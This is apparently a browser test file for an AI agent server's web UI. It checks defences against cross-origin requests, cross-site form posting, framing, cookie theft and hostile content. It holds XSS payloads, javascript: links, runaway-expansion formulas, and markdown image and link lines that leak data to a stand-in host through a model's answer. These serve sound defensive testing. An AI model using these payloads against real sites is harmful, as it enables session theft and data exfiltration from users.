import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, onTestFinished } from 'vitest'
import { hasBrowser, openWebUi, useBrowser } from '../support/browser.ts'
import { startScriptedUpstream } from '../support/scripted-upstream.ts'
import { modelAt, startServer, TEST_KEY } from '../support/server.ts'
import { textReply } from '../support/upstream-replies.ts'

const HOSTILE = '<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>'

const browser = useBrowser()

/** A page of somebody else, at another port of the same host: to a browser, the same site. */
async function hostPage(html: string): Promise<string> {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(html)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  const { port } = server.address() as AddressInfo
  return `http://127.0.0.1:${port}`
}

describe.skipIf(!hasBrowser)('A page of another origin (needs Chromium)', () => {
  it('cannot use the session of somebody who is signed in: not by script, form, frame or image', async () => {
    const server = await startServer({ CORS_ORIGIN: '*' })
    const id = await server.ingest({ title: 'Secret', text: 'A secret text.' })
    const { context } = await openWebUi(browser, server.url)
    const stranger = await context.newPage()
    await stranger.goto(await hostPage('<title>Elsewhere</title>'))
    const tried = await stranger.evaluate(
      async ([url, document]) => {
        const attempt = async (path: string, options: RequestInit) => {
          try {
            const response = await fetch(`${url}${path}`, { credentials: 'include', ...options })
            return response.status
          } catch {
            return 'refused'
          }
        }
        const json = { 'content-type': 'application/json', 'x-agent-server-web-ui': '1' }
        return {
          read: await attempt('/ui/api/documents', {}),
          write: await attempt(`/ui/api/documents/${document}`, {
            method: 'DELETE',
            headers: json,
          }),
          key: await attempt('/ui/key', { method: 'POST', headers: json }),
          simple: await attempt('/ui/api/agent/sandbox/verify', {
            method: 'POST',
            mode: 'no-cors',
          }),
          image: await attempt(`/ui/api/documents/${document}/chunks`, { mode: 'no-cors' }),
        }
      },
      [server.url, id],
    )
    const none = 'refused'
    expect(tried).toEqual({ read: none, write: none, key: none, simple: none, image: none })
    expect((await server.request(`/documents/${id}`)).status).toBe(200)

    const form = await hostPage(
      `<form method="post" enctype="text/plain" action="${server.url}/ui/session"><input name="x"></form><script>document.forms[0].submit()</script>`,
    )
    // It leaves by itself, perhaps before it is loaded.
    await stranger.goto(form, { waitUntil: 'commit' })
    await stranger.waitForURL(`${server.url}/**`)
    expect(await stranger.content()).toMatch(/origin_not_allowed|unsupported_media_type/)

    await stranger.goto(await hostPage(`<iframe src="${server.url}/"></iframe>`))
    const [, frame] = stranger.frames()
    expect(
      await frame
        ?.locator('nav')
        .count()
        .catch(() => 0),
    ).toBe(0)
  })
})

describe.skipIf(!hasBrowser)('The session’s cookie (needs Chromium)', () => {
  it('is out of reach for scripts, and opens nothing on the paths of the API', async () => {
    const server = await startServer()
    const { page, context } = await openWebUi(browser, server.url)
    expect(await page.evaluate<string>('document.cookie')).toBe('')
    expect(await page.evaluate(async () => (await fetch('/agent')).status)).toBe(401)
    expect(await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))).not.toContain(
      TEST_KEY,
    )
    const [cookie] = await context.cookies(`${server.url}/ui/api`)
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/ui', secure: false })
    expect(await context.cookies(`${server.url}/agent`)).toEqual([])
  })
})

describe.skipIf(!hasBrowser)('Hostile content (needs Chromium)', () => {
  it('is shown as it is written: in a title, a text, a file name and a passage', async () => {
    const server = await startServer()
    await server.ingest({
      title: `${HOSTILE} title`,
      text: `${HOSTILE} hours of the library`,
      url: 'https://a.test/"onmouseover="alert(4)',
    })
    const { page, complaints } = await openWebUi(browser, server.url, 'documents')
    await page.getByRole('link', { name: `${HOSTILE} title` }).waitFor()
    await page
      .getByLabel('Add files')
      .last()
      .setInputFiles({
        name: '<img src=x onerror=alert(5)>.txt',
        mimeType: 'text/html',
        buffer: Buffer.from('Hours of the library, too.'),
      })
    await page
      .getByRole('listitem')
      .filter({ hasText: 'onerror=alert(5)' })
      .getByText('Ready')
      .waitFor()
    await page.getByRole('link', { name: `${HOSTILE} title` }).click()
    await page.getByText('hours of the library').waitFor()
    await page.goto(`${server.url}/#/search`)
    await page.getByLabel('Question', { exact: true }).fill('hours library')
    await page.keyboard.press('Enter')
    await page.getByText(/found in/).waitFor()
    await page.goto(`${server.url}/#/chat`)
    await page.getByLabel('Question', { exact: true }).fill('hours of the library')
    await page.keyboard.press('Enter')
    await page
      .getByRole('button', { name: /^Source/ })
      .first()
      .click()
    await page.locator('.reader mark').first().waitFor()
    // The page's own pictures stand in buttons, and in the link above the document.
    const shown = page
      .locator('.answer, .reader')
      .locator('img, script, svg:not(:is(button, .reader-head a) svg)')
    expect(await shown.count()).toBe(0)
    expect(complaints).toEqual([])
  })

  it('is harmless in an answer: no remote picture, no script, links that show their address', async () => {
    const upstream = await startScriptedUpstream()
    onTestFinished(() => upstream.close())
    const server = await startServer(modelAt(upstream))
    const { page, complaints } = await openWebUi(browser, server.url, 'chat')
    upstream.always(
      textReply(
        `${HOSTILE} ![a cat](https://elsewhere.example/leak?said=secret) [click](javascript:alert(6)) [here](https://elsewhere.example/?said=secret) <a href="https://elsewhere.example" onclick="alert(7)">raw</a> end`,
      ),
    )
    await page.getByLabel('Question', { exact: true }).fill('Anything?')
    await page.keyboard.press('Enter')
    const answer = page.locator('.answer')
    await answer.getByText('end').waitFor()
    await page.getByText(/tokens/).waitFor()
    expect(await answer.locator('img, script, svg, [onclick]').count()).toBe(0)
    const links = await answer
      .locator('a')
      .evaluateAll((all) =>
        all.map((link) => [link.textContent, link.getAttribute('href'), link.getAttribute('rel')]),
      )
    // The server has made the picture a link already.
    expect(links).toEqual([
      [
        'a cat (elsewhere.example)',
        'https://elsewhere.example/leak?said=secret',
        'noopener noreferrer nofollow',
      ],
      [
        'here (elsewhere.example)',
        'https://elsewhere.example/?said=secret',
        'noopener noreferrer nofollow',
      ],
      // Of a link in HTML, which is shown as it is written, the address alone becomes one.
      ['https://elsewhere.example', 'https://elsewhere.example', 'noopener noreferrer nofollow'],
    ])
    expect(complaints).toEqual([])
  })

  it('draws no formula that links, loads, or grows without end, and none beyond its answer', async () => {
    const upstream = await startScriptedUpstream()
    onTestFinished(() => upstream.close())
    const server = await startServer(modelAt(upstream))
    const { page, complaints } = await openWebUi(browser, server.url, 'chat')
    const refused = [
      String.raw`$\href{javascript:alert(1)}{click}$`,
      String.raw`$\includegraphics{https://elsewhere.example/leak.png}$`,
      String.raw`$\style{background: url(https://elsewhere.example/leak)}{x}$`,
      String.raw`$\textcolor{red; background: url(https://elsewhere.example/leak)}{x}$`,
      String.raw`$\def\a{\a\a}\a$`,
      String.raw`$\def\a{${'x'.repeat(1_000)}}${'\\a '.repeat(99)}y$`,
      `$${'('.repeat(1_900)}$`,
    ]
    const drawn = [
      String.raw`$\text{${HOSTILE}}$`,
      String.raw`$\kern-18em\rule{99999em}{99999em}$`,
      String.raw`$\frac{1}{\sqrt{${'\\frac{1}{'.repeat(150)}x${'}'.repeat(150)}}}$`,
    ]
    upstream.always(textReply([...refused, ...drawn, 'end'].join('\n\n')))
    await page.getByLabel('Question', { exact: true }).fill('Anything?')
    await page.keyboard.press('Enter')
    const answer = page.locator('.answer')
    await answer.getByText('end', { exact: true }).waitFor()
    await page.getByText(/tokens/).waitFor()
    const formulas = answer.locator('.formula')
    await expect.poll(() => formulas.locator('math').count()).toBeGreaterThan(0)
    const isDrawn = await formulas.evaluateAll((all) =>
      all.map((one) => (one.querySelector('math') ? 'drawn' : one.textContent)),
    )
    expect(isDrawn).toEqual([...refused, ...drawn.map(() => 'drawn')])
    expect(await formulas.locator('a, img, script, svg, [href], [src], [onerror]').count()).toBe(0)
    // What stands beside the answer still takes the click.
    const onRule = await page.evaluate<string[]>(`(() => {
      const rule = document.querySelector('.answer mspace')
      rule.scrollIntoView({ block: 'center' })
      const { left, top, width, height } = rule.getBoundingClientRect()
      const at = document.elementFromPoint(left + 20, top + height / 2)
      return [width > 250, Boolean(at), Boolean(at?.closest('.answer'))].map(String)
    })()`)
    expect(onRule).toEqual(['true', 'true', 'false'])
    expect(complaints).toEqual([])
  })
})
